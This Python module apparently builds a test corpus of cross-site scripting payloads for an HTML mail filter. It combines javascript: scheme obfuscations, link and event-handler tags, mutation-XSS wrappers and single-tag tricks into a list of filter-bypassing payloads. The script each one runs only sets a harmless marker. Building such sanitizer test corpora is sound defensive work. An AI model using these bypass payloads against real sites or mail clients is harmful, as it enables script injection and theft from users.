"""Hostile HTML by class: ways in which mail has run, loaded or lured, each in the spellings that filters missed.

Written by hand after the classes of public cheat sheets and of mutation XSS papers; `payloads` multiplies them out.
"""

from __future__ import annotations

from itertools import product

RUN = "window.parent.ran=1;window.ran=1"

_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", "java\rscript:{}", "\x01javascript:{}", " javascript:{}",
    "&#106;avascript:{}", "&#x6A;avascript:{}", "&#0000106avascript:{}", "javascript&colon;{}", "java&Tab;script:{}",
    "java&NewLine;script:{}", "\u2028javascript:{}", "\u00a0javascript:{}", "javascript://%0a{}", "vbscript:{}", "livescript:{}",
    "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=", "blob:{}", "feed:javascript:{}",
)  # fmt: skip
_LINKS = (
    '<a href="{}">x</a>', '<form action="{}"><button>x</button></form>', '<button formaction="{}">x</button>', '<iframe src="{}"></iframe>',
    '<area href="{}">', '<svg><a xlink:href="{}"><text>x</text></a></svg>', '<math href="{}">x</math>', '<object data="{}"></object>',
    '<embed src="{}">', '<base href="{}">', '<img src="{}">',
)  # fmt: skip
_EVENTS = (
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", "<img/src=x/onerror={}>", "<IMG SRC=x ONERROR={}>", "<img src=x onerror\x0c={}>",
    "<svg onload={}>", "<svg/onload={}>", "<body onload={}>", "<details open ontoggle={}>", "<video><source onerror={}></video>",
    "<audio src=x onerror={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>",
    "<marquee onstart={}>", "<p style='animation:x' onanimationstart={}>", "<iframe onload={}></iframe>", "<object onerror={}></object>",
    "<link rel=stylesheet href=x onerror={}>", "<style onload={}></style>", "<a tabindex=0 autofocus onfocus={}>x</a>", "<table onpointerover={}>",
)  # fmt: skip
_WRAPPERS = (
    "{}", "<noscript><p title='</noscript>{}'></noscript>", "<math><mtext><table><mglyph><style><!--</style>{}-->", "<svg></p><style><a id='</style>{}'>",
    "<form><math><mtext></form><form><mglyph><style></math>{}", "<!--><p>-->{}", "<![CDATA[>{}]]>", "<xmp><p title='</xmp>{}'></xmp>",
    "<title><p title='</title>{}'></title>", "<template>{}</template>", "<svg><foreignObject>{}</foreignObject></svg>", "<div>" * 40 + "{}",
)  # fmt: skip
_SINGLE = (
    "<script>{}</script>", "<script/x>{}</script>", "<scr<script>ipt>{}</scr</script>ipt>", "<script src=data:text/javascript,{}></script>",
    "<svg><script>{}</script></svg>", "<svg><script href='data:text/javascript,{}'/></svg>", "<svg><set attributeName=onload to={}>",
    "<svg><animate xlink:href=#x attributeName=href values='javascript:{}'/><a id=x>x</a></svg>", "<svg><use href='data:image/svg+xml,<svg/onload={}>#x'/></svg>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<style>@import 'javascript:{}'</style>",
    "<div style='background:url(javascript:{})'>x</div>", "<div style='width:expression({})'>x</div>", "<xml><x>{}</x></xml>", "<isindex action='javascript:{}'>",
    "<img src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload={}/>'>", "<portal src='javascript:{}'>", "<keygen autofocus onfocus={}>",
)  # fmt: skip


def payloads() -> list[str]:
    """Return every payload once."""
    made = [link.format(scheme.format(RUN)) for link, scheme in product(_LINKS, _SCHEMES)]
    made += [wrapper.format(event.format(RUN)) for wrapper, event in product(_WRAPPERS, _EVENTS)]
    made += [one.format(RUN) for one in _SINGLE]
    return list(dict.fromkeys(made))
